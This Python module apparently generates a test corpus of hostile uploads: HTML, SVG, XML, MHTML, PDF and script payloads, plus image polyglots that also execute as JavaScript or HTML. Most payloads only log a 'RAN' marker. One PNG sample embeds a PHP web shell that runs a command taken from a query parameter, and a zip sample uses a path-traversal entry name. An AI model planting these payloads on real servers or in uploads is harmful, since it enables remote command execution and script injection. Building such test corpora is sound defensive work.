"""Hostile files: what is active somewhere, alone or inside of what is a picture.

Every script in them says ``RAN`` and its label, in the console and to the page around it.
"""

from __future__ import annotations

import base64
import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Final

from PIL import Image

STYLE: Final = "--ran"
"""The property that the style sheet of the corpus sets on the page that takes it in."""

TYPES: Final = (
    "text/html",
    "text/html; charset=utf-7",
    "image/svg+xml",
    "application/xhtml+xml",
    "application/xml",
    "text/xml",
    "text/xsl",
    "text/javascript",
    "application/javascript",
    "application/x-javascript",
    "application/ecmascript",
    "text/javascript1.5",
    "text/css",
    "application/json",
    "application/wasm",
    "application/pdf",
    "application/rss+xml",
    "application/x-shockwave-flash",
    "multipart/related",
    "message/rfc822",
    "model/x3d+xml",
    "text/plain",
    "image/png",
    "application/octet-stream",
    "",
    "*/*",
    "text/html, image/png",
)
"""What a sender may say of a file."""

_NAMES: Final = ("x.html", "x.svg", "x.png", "x", "x.png.html", "x.js", "x.xhtml", "x.jpg", "x.mht")


@dataclass(frozen=True, slots=True)
class Sample:
    """One file as it is sent: what it is, and what its sender says of it."""

    label: str
    name: str
    declared: str
    content: bytes


def samples() -> Iterator[Sample]:
    """Every content under every type, the names in turn."""
    names = itertools.cycle(_NAMES)
    for label, content in {**active(), **polyglots()}.items():
        for declared in TYPES:
            yield Sample(label, next(names), declared, content)


def active() -> Mapping[str, bytes]:
    """What runs when it is served as what it is; none of it is a picture."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_script("svg")}"/>'
    xhtml = "http://www.w3.org/1999/xhtml"
    inside = f'<body xmlns="{xhtml}"><script>{_script("foreign")}</script></body>'
    return {
        "html": _html("html").encode(),
        "html-late": f"<!--{'x' * 3000}-->{_html('html-late')}".encode(),
        "html-blank": (" \r\n\t" * 500 + _html("html-blank")).encode(),
        "html-bom": b"\xef\xbb\xbf" + _html("html-bom").encode(),
        "html-utf16": b"\xff\xfe" + _html("html-utf16").encode("utf-16-le"),
        "html-utf16-be": b"\xfe\xff" + _html("html-utf16-be").encode("utf-16-be"),
        "html-utf7": _html("html-utf7").encode("utf-7"),
        "svg": svg.encode(),
        "foreign": (
            '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            f"<foreignObject>{inside}</foreignObject></svg>"
        ).encode(),
        "xhtml": (
            f'<html xmlns="{xhtml}"><head><script>{_script("xhtml")}</script></head></html>'
        ).encode(),
        "xml": f'<a xmlns:h="{xhtml}"><h:script>{_script("xml")}</h:script></a>'.encode(),
        "mhtml": _mhtml(),
        "js": _script("js").encode(),
        "css": f"html {{ {STYLE}: yes }}".encode(),
        "pdf-js": f"/*%PDF-1.4\n{_PDF}*/{_script('pdf-js')}".encode(),
        "bmp-js": b"BM/*" + b"\0" * 60 + b"*/=1;" + _script("bmp-js").encode(),
        "zip-html": _zip() + _html("zip-html").encode(),
        "gif-header": f"GIF89a/*{_html('gif-header')}*/=1;{_script('gif-header')}".encode(),
    }


def polyglots() -> Mapping[str, bytes]:
    """Pictures that are something else as well."""
    page = _html("png-html").encode()
    return {
        "gif-js": _gif_and_script(),
        "jpeg-js": _jpeg_and_script(),
        "jpeg-html": _jpeg_and_page(),
        "png-html": with_chunk(picture("PNG"), b"tEXt", b"Comment\0" + page) + page,
        "png-zip-php": picture("PNG") + b"<?php system($_GET[0]); ?>" + _zip(),
        "webp-html": _riff(picture("WEBP"), b"EXIF", _html("webp-html").encode()),
        "avif-html": picture("AVIF") + _html("avif-html").encode(),
        "gif-html": picture("GIF") + _html("gif-html").encode(),
    }


def picture(
    kind: str, size: tuple[int, int] = (200, 100), mode: str = "RGB", **how: object
) -> bytes:
    """A harmless picture with a gradient in it."""
    made = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(made, kind, **how)
    return made.getvalue()


def with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk behind its header."""
    return png[:33] + chunk(kind, data) + png[33:]


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def segment(marker: int, data: bytes) -> bytes:
    """A segment of a JPEG."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def _script(label: str) -> str:
    """Speaks to the console, to the outermost page, and out of a worker."""
    said = f"'RAN {label}'"
    return (
        f"console.error({said});"
        f"try{{top.postMessage({said},'*')}}catch(e){{}}try{{postMessage({said})}}catch(e){{}}"
    )


def _html(label: str) -> str:
    ran = _script(label)
    return f'<!doctype html><script>{ran}</script><img src=x onerror="{ran}"><body onload="{ran}">'


_PDF: Final = """1 0 obj<</Type/Catalog/Pages 2 0 R
/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
trailer<</Root 1 0 R>>
%%EOF"""


def _mhtml() -> bytes:
    body = base64.encodebytes(_html("mhtml").encode()).decode()
    return (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type=text/html\r\n\r\n"
        "--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Location: http://127.0.0.1/\r\n\r\n{body}\r\n--b--\r\n"
    ).encode()


def _zip() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("META-INF/MANIFEST.MF", "Main-Class: X\n")
        packed.writestr("../../x.html", _html("zip"))
    return made.getvalue()


def _gif_and_script() -> bytes:
    """The width of its screen opens a comment, and what follows its end closes it."""
    gif = picture("GIF", (8, 8))
    opened = gif[:6] + b"/*" + struct.pack("<H", 3_000) + gif[10:]
    assert b"*/" not in opened
    return opened + b"*/=1;" + _script("gif-js").encode()


def _jpeg_and_script() -> bytes:
    """The length of its first segment opens a comment, and a segment of comments closes it."""
    jpeg = picture("JPEG", (8, 8))
    first = b"\xff\xe0/*" + b"JFIF\0\1\1\0\0\1\0\1\0\0"
    length = int.from_bytes(b"/*", "big")
    first += b"\0" * (length + 2 - len(first))
    said = segment(0xFE, f"*/=1;{_script('jpeg-js')}/*".encode())
    rest = jpeg[20:]
    assert b"*/" not in rest
    return b"\xff\xd8" + first + said + rest + b"*/"


def _jpeg_and_page() -> bytes:
    jpeg, page = picture("JPEG"), _html("jpeg-html").encode()
    return jpeg[:2] + segment(0xFE, page) + jpeg[2:] + page


def _riff(webp: bytes, kind: bytes, data: bytes) -> bytes:
    data += b"\0" * (len(data) % 2)
    body = webp[8:] + kind + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body
